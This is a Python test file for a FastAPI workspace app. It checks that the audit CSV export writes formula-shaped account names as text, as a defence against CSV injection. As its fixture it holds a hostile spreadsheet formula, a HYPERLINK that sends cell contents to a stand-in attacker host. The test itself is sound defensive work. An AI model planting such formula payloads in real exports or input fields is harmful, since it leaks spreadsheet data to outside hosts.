"""The audit CSV never hands a spreadsheet a formula: an account named like a formula
(any email-shaped text is accepted) is exported as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from repository.config import Settings
from repository.csv_safety import FORMULA_START
from repository.workspace.db import open_db
from repository.workspace.users import add_user
from tests.workspace.conftest import ADMIN

pytestmark = pytest.mark.slow  # a real store and model behind the app
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)@evil.example'


def test_the_audit_csv_exports_a_formula_shaped_account_as_text(
        app_client: TestClient, admin: str, admin_token: str, ws_settings: Settings) -> None:
    add_user(open_db(ws_settings.data_dir), HOSTILE, "long enough password", "editor",
             actor=ADMIN[0])
    for response in (app_client.get("/workspace/audit.csv"),
                     app_client.get("/api/workspace/audit", params={"format": "csv"},
                                    headers={"Authorization": f"Bearer {admin_token}"})):
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.text)))
        added = [r for r in rows if r["action"] == "user.add" and "HYPERLINK" in r["detail"]]
        assert [r["detail"] for r in added] == [f"'{HOSTILE} (editor)"]
        for row in rows:
            assert all(cell[:1] not in FORMULA_START for cell in row.values()), row
